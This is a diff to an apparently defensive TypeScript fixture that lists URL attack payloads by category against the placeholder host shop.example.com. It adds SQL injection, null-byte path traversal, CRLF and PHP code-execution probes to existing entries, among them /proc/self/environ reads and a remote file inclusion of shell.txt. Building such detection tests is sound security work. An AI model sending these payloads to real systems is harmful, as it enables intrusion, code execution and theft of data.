@@ -46,6 +46,8 @@ export const ATTACKS: Record<string, string[]> = {
     'shop.example.com/item.php?id=1%2527%2520or%25201%253D1',
     'shop.example.com/item.php?id=1+order+by+5--',
     'shop.example.com/item.php?id=1+or+1=1',
+    'shop.example.com/item.php?id=-1%20OR%203%2b23-23-1=0%2b0%2b0%2b1%20--%20',
+    'shop.example.com/item.php?id=1%20AND%20%27NS%3d%27ss',
     'shop.example.com/item.php?id=1+into+outfile+/tmp/x',
     'shop.example.com/item.php?id=1+and+dbms_pipe.receive_message(chr(65),5)=1',
     "shop.example.com/item.php?id=1'+and+(select+1+from+(select(sleep(5)))a)--",
@@ -76,6 +78,8 @@ export const ATTACKS: Record<string, string[]> = {
     'shop.example.com/index.php?page=/proc/self/environ',
     'shop.example.com/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
     'shop.example.com/WEB-INF/web.xml',
+    'shop.example.com/view.php?file=../config.php%00.jpg',
+    "shop.example.com/search?q=12345'%00{%0d%0a",
   ],
   template_injection: [
     'shop.example.com/greet?name={{7*7}}',
@@ -97,6 +101,7 @@ export const ATTACKS: Record<string, string[]> = {
     'shop.example.com/x.php?c=system(%27id%27)',
     'shop.example.com/x.php?c=<?php%20phpinfo();?>',
     'shop.example.com/x.php?c=eval($_POST[x])',
+    'shop.example.com/x.php?c=%24{%40print(md5(31337))}',
   ],
   rfi: [
     'shop.example.com/index.php?page=http://198.51.100.7/shell.txt?',
